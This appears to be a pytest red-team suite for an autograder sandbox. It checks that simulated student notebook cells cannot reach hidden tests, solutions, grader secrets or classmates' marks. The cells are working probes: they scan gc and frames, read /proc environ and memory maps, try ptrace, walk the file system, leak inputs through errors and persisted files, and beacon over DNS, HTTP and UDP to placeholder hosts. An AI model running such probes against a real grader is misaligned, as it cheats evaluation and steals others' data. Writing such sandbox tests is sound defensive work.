"""Taking out what the student must not know: judges, tests, answers, inputs, others' work."""

# ruff: noqa: E501  (a payload is one cell)

from __future__ import annotations

import hashlib
import json
from dataclasses import replace

import pytest

from autograder.examiner import Examiner
from tests.redteam.arena import LIMITS, Arena, Attack, printed

REPOSITORY = "import os\nplaces = ['@SOLUTIONS@', '@SOLUTIONS@/../tests', '@SOLUTIONS@/../.git', '@SOLUTIONS@/../gradebook', '@SOLUTIONS@/../autograder/checks/backprop_numpy']\n"
WHOLE = "def everything(folder):\n    for root, folders, files in os.walk(folder, onerror=lambda e: None):\n        folders[:] = [f for f in folders if f not in ('site-packages', 'share', 'include', 'proc') and not f.startswith('python3')]\n        yield from (os.path.join(root, f) for f in files)\n"
ATTACKS = [
    Attack("41", "input history and callers' frames", "the source of hidden tests",
        cell="import sys\nnames, frame = [], sys._getframe()\nwhile frame: names.append(frame.f_code.co_filename.rsplit('/', 1)[-1]); frame = frame.f_back\n"
             "print('judges', sorted(set(names) & {'check.py', 'compare.py', 'examiner.py', 'linear.py'}), [s for s in In + _ih if 'check.' + 'linear' in s])", shows="judges [] []"),
    Attack("42", "source text in linecache, inspect and gc", "the reference solution",
        cell="import gc, inspect, linecache, autograder\nmark = 'BEGIN ' + 'SOLUTION'\ntexts = [o for o in gc.get_objects() if isinstance(o, str)] + [l for e in linecache.cache.values() if len(e) > 2 for l in e[2]]\n"
             "print('found', sum(mark in t for t in texts), hasattr(autograder, 'examiner'))", shows="found 0 False"),
    Attack("43", "tests, solutions and the history", "all tests and solutions", cell=REPOSITORY + "print('there', [p for p in places if os.path.exists(p)])", shows="there []"),
    Attack("43c", "the gradebook, the secret and the reports", "marks and inputs of the whole class",
        cell="got = []\nfor place in ('@SECRET@', '@DATABASE@', '@GIT@', '@SIBLING@', '@OUTSIDE@', '@REPORTS@'):\n    try: got.append(open(place).read())\n    except OSError: pass\nprint('got', got)", shows="got []"),
    Attack("44", "process list, environment, descriptors, memory maps", "secrets and open files of the grader",
        cell="import os\ngot = []\nfor name in ('self/environ', 'self/fd', 'self/maps', 'self/mem', '1/cmdline', '1/environ', 'self/mountinfo', 'self/root', 'self/cwd'):\n    if os.path.exists('/proc/' + name): got.append(name)\n"
             "print('got', got, sorted(n for n in os.environ if 'SECRET' in n or 'KEY' in n or n in ('USER', 'OLDPWD', 'PYTEST_CURRENT_TEST')), os.environ.get('PWD', '/tmp'))", shows="got [] [] /tmp"),
    Attack("44b", "other processes by ptrace", "the grader's memory",
        cell="import ctypes, os\nl = ctypes.CDLL(None)\nprint('attached', [n for n in range(2, 300) if l.ptrace(16, n, 0, 0) == 0])", shows="attached []"),
    Attack("45", "errors that carry inputs", "hidden inputs printed in the feedback",
        answers={"relu": "class ReLU(Module):\n    def forward(self, x): raise ValueError(repr(x.tolist()) * 100)\n    backward = forward"}),
    Attack("46", "data in outputs, images and names of files", "slips through the feedback",
        cell="from IPython.display import Image, display, HTML\nimport os\ndisplay(HTML('<i>diary</i>'), metadata={'diary': 'x' * 1000})\ndisplay({'application/x-diary': 'x', 'text/plain': 'x'}, raw=True)\nopen('diary_' + 'x' * 200, 'w').write('x')", hides=("diary",)),
    Attack("47", "a diary kept between attempts", "the inputs are known at the next attempt",
        cell="import os, pathlib\nfor place in ('/tmp/diary', '/dev/shm/diary', '/tmp/work/../diary2', os.path.expanduser('~/.diary'), '/course/diary', '/var/tmp/diary'):\n    try: print('old', pathlib.Path(place).read_text())\n    except OSError: pass\n"
             "    try: pathlib.Path(place).write_text('inputs')\n    except OSError: pass", hides=("old inputs",)),
    Attack("50", "the release's text", "answers that are only hidden", cell="print('source', [s for s in In if 'SOLUTION' in s and 'print' not in s])", shows="source []"),
    Attack("76", "a beacon by DNS, HTTP and sockets", "one bit of hidden data, or all of them",
        cell="import socket, urllib.request\nout = []\nfor act in (lambda: socket.getaddrinfo('example.org', 80), lambda: socket.create_connection(('192.0.2.1', 80), 1), lambda: urllib.request.urlopen('http://192.0.2.1/', timeout=1), lambda: socket.socket(2, 2).sendto(b'x', ('192.0.2.1', 53))):\n"
             "    try: act(); out.append(1)\n    except OSError: pass\nprint('out', out)", shows="out []"),
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS, ids=str)
def test_it_finds_nothing(arena: Arena, attack: Attack) -> None:
    arena.withstand(attack)


def test_47_the_diary_of_the_first_attempt_is_gone_at_the_second(arena: Arena) -> None:
    diary = next(a for a in ATTACKS if a.number == "47")
    arena.withstand(diary)
    arena.withstand(diary)


def test_45_and_46_what_comes_out_reaches_the_students_own_page_and_no_list(arena: Arena) -> None:
    """Printed inputs are the student's to see; the next attempt has others (see test_verdicts, 40 and 48)."""
    report = arena.examine("attacker", Attack("46", "", "", cell="print('diary ' * 3)"))
    assert "diary" in printed(report)
    assert "diary" not in json.dumps(report.to_dict())


def test_45_a_message_is_short(arena: Arena) -> None:
    report = arena.examine("attacker", next(a for a in ATTACKS if a.number == "45"))
    finding = report.checks["check_relu"].failures[0].finding
    assert len(finding.got) < 400


def test_51_the_secret_is_nowhere_in_the_childs_memory(arena: Arena) -> None:
    """Looked for by its digest in all objects, and in all memory that Python's allocator and the heap hold."""
    digest = hashlib.sha256(arena.secret).hexdigest()
    cell = (
        "import gc, hashlib\nfound = 0\nfor o in gc.get_objects() + [r for o in gc.get_objects()[:200000] for r in gc.get_referents(o)]:\n"
        f"    if isinstance(o, bytes) and len(o) == {len(arena.secret)}: found += hashlib.sha256(o).hexdigest() == '{digest}'\nprint('found', found)"
    )
    arena.withstand(Attack("51", "", "", cell=cell, shows="found 0"))


def test_51_a_child_inherits_nothing_of_the_child_before(arena: Arena) -> None:
    arena.withstand(
        Attack("51", "", "", cell="import builtins\nbuiltins.inherited = 'of the first'\nx = 'mark' * 1000")
    )
    cell = "import builtins, gc\nprint('inherited', hasattr(builtins, 'inherited'), sum(isinstance(o, dict) and 'inherited' in o and o is not globals() for o in gc.get_objects()))"  # fmt: skip
    arena.withstand(Attack("51", "", "", cell=cell, shows="inherited False 0"))


def test_43b_the_whole_file_system(arena: Arena) -> None:
    """With more time than the other attacks have: a disk that nobody has read yet is slow."""
    attack = Attack("43b", "the whole file system", "solutions that lie somewhere",
        cell="import os\n" + WHOLE + "paths = list(everything('/'))\nprint('names', [p for p in paths if p.endswith(('.ipynb', 'gradebook.db', 'timestamp.txt', 'nbgrader_config.py'))], len(paths) > 1000)")  # fmt: skip
    task = arena.task("attacker", arena.hand_in("attacker", attack))
    with Examiner() as other:
        report = other.examine(replace(task, limits=replace(LIMITS, cell_seconds=45)))
    assert "names [] True" in printed(report)
    arena.require_no_gain(report, arena.twin(attack))


def test_43_no_judge_is_in_an_examiners_sandbox_of_its_own(arena: Arena) -> None:
    with Examiner() as other:
        task = arena.task("attacker", arena.hand_in("attacker", Attack("43", "", "", cell="import autograder.checks.compare")))  # fmt: skip
        report = other.examine(task)
    assert "compare" not in "".join(c.finding.got for check in report.checks.values() for c in check.criteria)
    assert report.score == 0
